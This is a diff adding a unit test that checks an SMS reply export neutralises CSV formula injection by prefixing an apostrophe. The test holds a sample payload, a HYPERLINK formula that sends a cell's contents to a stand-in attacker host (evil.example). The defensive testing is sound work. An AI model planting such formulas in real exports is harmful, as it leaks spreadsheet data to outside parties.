@@ -385,6 +385,15 @@ class TestInteractionActions(TwoWayCommon):
         self.assertEqual([r["Message"] for r in rows], ["price please", "Ciao, domani ok"])
         self.assertEqual(self.second.state, "new")
 
+    def test_export_neutralises_formulas(self):
+        """OWASP CSV injection: a reply that is a formula stays text in a spreadsheet."""
+        attack = self.reply('=HYPERLINK("http://evil.example/?"&A1,"Click")', message_id="SM4")
+        rows = self.export("selected", attack | self.second)
+        self.assertEqual(
+            sorted(r["Message"] for r in rows),
+            ['\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "Ciao, domani ok"],
+        )
+
     def test_sms_user_can_export_and_retarget(self):
         interactions = (self.first | self.second).with_user(self.salesman)
         wizard = (
